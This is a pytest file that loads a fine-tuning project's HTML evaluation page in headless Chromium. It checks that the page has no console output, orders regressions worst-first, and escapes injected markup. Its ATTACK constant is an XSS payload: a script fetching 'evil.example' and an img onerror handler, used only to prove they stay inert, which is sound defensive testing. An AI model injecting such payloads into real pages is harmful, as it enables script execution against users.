"""The evaluation page in a real headless browser, as test_run_page.py holds the run page: it
loads with no console message at all (no error, no script refused), the flagged metric is on
it, the worst regression comes first with its diff, and a `<script>` in an answer stays text.

    CODETUNE_WRITE_SCREENSHOT=1 pytest tests/integration/test_eval_page.py   # refreshes docs/
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest

from codetune.evaluation.page import render, worst_first
from tests.integration.test_report_page import browse
from tests.unit.eval_example import evaluated, examples, hostile

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOT = ROOT / "docs" / "eval-example.png"
# Run, it would leave its mark on the page Chromium dumps, and its fetch in the console.
ATTACK = (
    "<script>document.body.setAttribute('data-pwned', '1');fetch('https://evil.example/')</script>"
    "<img src=x onerror=\"document.body.setAttribute('data-pwned', '2')\">"
)


def test_the_evaluation_page_loads_clean_worst_first_and_inert(tmp_path: Path) -> None:
    results = hostile(examples(), f"def f():\n    return 1\n{ATTACK}\n")
    record = evaluated(results)
    page = tmp_path / "train.jsonl.eval.html"
    page.write_text(render(record, results), encoding="utf-8")
    dom, console = browse(page, "--dump-dom")
    assert console == []
    assert 'data-pwned="' not in dom  # never set: the script and the handler did not run
    assert "&lt;script&gt;document.body.setAttribute" in dom  # the answer, shown as text
    assert "<img" not in dom and "<script" not in dom
    assert 'id="verdict">WORSE on code parses' in dom
    flag = re.search(r'<p class="alert" id="flag">(.*?)</p>', dom, re.S)
    assert flag is not None and "code parses" in flag.group(1)
    assert re.search(r'<tr class="flagged" data-metric="code_parses" data-finding="worse">', dom)
    shown = [int(n) for n in re.findall(r'<section class="example" id="example-(\d+)"', dom)]
    assert shown == [r.line for r in worst_first(results, ["code_parses"])]
    # First: of the answers that stopped parsing, the one that lost the most chrF.
    lost = [r for r in results if r.scores.tuned["code_parses"] == 0.0]
    worst = min(lost, key=lambda r: (r.scores.tuned["chrf"] or 0) - (r.scores.base["chrf"] or 0))
    assert shown[0] == worst.line
    first = re.search(r'<section class="example" id="example-\d+".*?</section>', dom, re.S)
    assert first is not None and first.group(0).count('<pre class="diff">') == 2
    assert '<span class="add">+ &lt;script&gt;' in first.group(
        0
    )  # in the answer, not the reference


def test_the_docs_screenshot_of_a_realistic_evaluation(tmp_path: Path) -> None:
    results = examples()
    page = tmp_path / "train.jsonl.eval.html"
    page.write_text(render(evaluated(results), results), encoding="utf-8")
    shot = tmp_path / "eval.png"
    browse(page, f"--screenshot={shot}", "--window-size=1100,2300", "--hide-scrollbars")
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and shot.stat().st_size > 20_000
    if os.environ.get("CODETUNE_WRITE_SCREENSHOT"):
        shutil.copy(shot, SCREENSHOT)


@pytest.mark.skipif(not SCREENSHOT.exists(), reason="written with CODETUNE_WRITE_SCREENSHOT=1")
def test_the_docs_keep_a_screenshot_of_the_example_evaluation() -> None:
    assert SCREENSHOT.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
